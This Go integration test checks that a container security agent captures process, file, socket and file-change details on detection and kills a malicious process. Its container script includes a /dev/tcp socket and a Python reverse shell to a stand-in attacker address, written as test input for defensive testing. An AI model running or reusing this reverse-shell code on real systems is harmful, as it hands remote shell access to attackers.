package attack

import (
	"encoding/json"
	"fmt"
	"io"
	"net"
	"os"
	"path/filepath"
	"slices"
	"strings"
	"testing"

	"github.com/bollwerk/bollwerk"
	"github.com/bollwerk/bollwerk/recorder"
)

// TestCaptures lets a whole agent capture what is seen and goes on, and what it is about to
// kill, and prints both with its command: processes, what they were started with, their
// files, sockets and mappings, and what was changed in the container.
func TestCaptures(t *testing.T) {
	if testing.Short() {
		t.Skip("runs containers")
	}
	rules := t.TempDir()
	must(t, os.WriteFile(filepath.Join(rules, "policy.yaml"), []byte(`id: own-watcher
title: t
description: d
why: w
fix: f
severity: high
mode: warn
subject: event
match: event.kind == "exec" && event.in_container && event.process.name == "tail"
message: a watcher was started
`), 0o644))
	n := newNetwork(t)
	for _, port := range []string{"4444", "4445"} {
		n.listen(attacker+":"+port, func(c net.Conn) { _, _ = io.Copy(io.Discard, c) })
	}
	cs := newContainers(t, n)
	a := startAgent(t, "--rules", rules)
	r := cs.start("captured", `cd /usr/share; echo changed > /etc/own-changed; rm /etc/issue; cp /etc/own-changed /tmp/own-open
exec 7</tmp/own-open 8<>/dev/tcp/203.0.113.5/4445
SECRET=found tail -f /tmp/own-open "two words" "" & tail=$!
echo watching
while [ ! -e /run/go-on ]; do sleep 0.05; done
grep '^State' /proc/$tail/status; kill $tail && echo unharmed
exec 8>&-
printf 'import socket,os,pty\ns=socket.socket()\ns.connect(("203.0.113.5",4444))\nfor f in (0,1,2): os.dup2(s.fileno(),f)\npty.spawn("/bin/sh")\n' > /tmp/r; python3 /tmp/r
echo after-the-kill`)
	a.awaitProtected(t, r.id)
	r.begin(t)
	captured := func(what string, of func(*bollwerk.Detection) bool) (*recorder.Snapshot, *bollwerk.Detection) {
		t.Helper()
		var d *bollwerk.Detection
		if !a.await(attackWait, func() bool {
			i := slices.IndexFunc(a.of(r.id), func(d *bollwerk.Detection) bool { return d.Snapshot != "" && of(d) })
			if i >= 0 {
				d = a.of(r.id)[i]
			}
			return i >= 0
		}) {
			t.Fatalf("no detection with a capture: %s; told:\n%s\n%s", what, describe(a.of(r.id)), r.output())
		}
		s := &recorder.Snapshot{}
		awaitThat(t, "the capture is written: "+what, func() bool {
			out, _, code := a.verb(t, "recall", "--snapshot", d.Snapshot)
			return code == 0 && json.Unmarshal([]byte(out), s) == nil
		})
		if s.ID != d.Snapshot || s.Detection == nil || s.Detection.Rule != d.Rule || s.Detection.Outcome != d.Outcome {
			t.Errorf("%s: it is %s, of %+v, not %s of %s, %s", what, s.ID, s.Detection, d.Snapshot, d.Rule, d.Outcome)
		}
		for path, removed := range map[string]bool{"/etc/own-changed": false, "/etc/issue": true, "/tmp/own-open": false} {
			if !slices.ContainsFunc(s.Changed, func(c recorder.ChangedFile) bool { return c.Path == path && c.Removed == removed }) {
				t.Errorf("%s: %s (removed: %t) is not among the changed files: %+v", what, path, removed, s.Changed)
			}
		}
		return s, d
	}

	s, _ := captured("what is only seen", func(d *bollwerk.Detection) bool { return d.Rule == "own-watcher" })
	if len(s.Processes) < 2 || len(s.Missing) > 0 {
		t.Fatalf("%d processes, missing %q", len(s.Processes), s.Missing)
	}
	p := s.Processes[0]
	shell := slices.IndexFunc(s.Processes, func(o recorder.ProcessSnapshot) bool { return o.PID == p.Parent })
	if !p.Subject || p.Name != "tail" || shell < 0 || !slices.Equal(s.Processes[shell].Args, []string{"bash", "/run/main"}) {
		t.Errorf("the tree: %+v", s.Processes)
	}
	if !slices.Equal(p.Args, []string{"tail", "-f", "/tmp/own-open", "two words", ""}) || !slices.Contains(p.Env, "SECRET=found") || p.Cwd != "/usr/share" || !strings.HasSuffix(p.Exe, "/tail") {
		t.Errorf("%q in %s with %q", p.Args, p.Cwd, p.Env)
	}
	if !slices.Contains(p.Files, recorder.FileRef{FD: 7, Target: "/tmp/own-open"}) || !slices.ContainsFunc(p.Sockets, func(s recorder.SocketAt) bool { return s.FD == 8 && s.Remote == attacker+":4445" }) {
		t.Errorf("files %+v, sockets %+v", p.Files, p.Sockets)
	}
	if !slices.ContainsFunc(p.Maps, func(m string) bool { return strings.HasSuffix(m, "/tail") }) {
		t.Errorf("mappings %q", p.Maps)
	}
	// Nobody stood still for it.
	touch(t, r, "go-on")
	r.awaitOutput(t, "unharmed")
	if !strings.Contains(r.output(), "(sleeping)") || strings.HasPrefix(p.State, "T") {
		t.Errorf("it was stopped: %q when it was captured, and now\n%s", p.State, r.output())
	}

	s, d := captured("what the agent killed", func(d *bollwerk.Detection) bool {
		return d.Outcome == bollwerk.Killed && strings.Contains(d.How, "by the agent")
	})
	if !slices.ContainsFunc(s.Processes, func(p recorder.ProcessSnapshot) bool {
		return p.Name == "python3" && slices.ContainsFunc(p.Sockets, func(s recorder.SocketAt) bool { return s.Remote == attacker+":4444" })
	}) {
		t.Errorf("the connection is not in the capture, missing %q: %+v", s.Missing, s.Processes)
	}
	r.awaitOutput(t, "after-the-kill")
	for _, p := range s.Processes {
		if p.Name == "python3" || p.Subject {
			if _, err := os.Stat(fmt.Sprintf("/proc/%d/root", p.PID)); err == nil {
				t.Errorf("%s (%d) lives on, though %s", p.Name, p.PID, d.How)
			}
		}
	}
	<-r.done
}
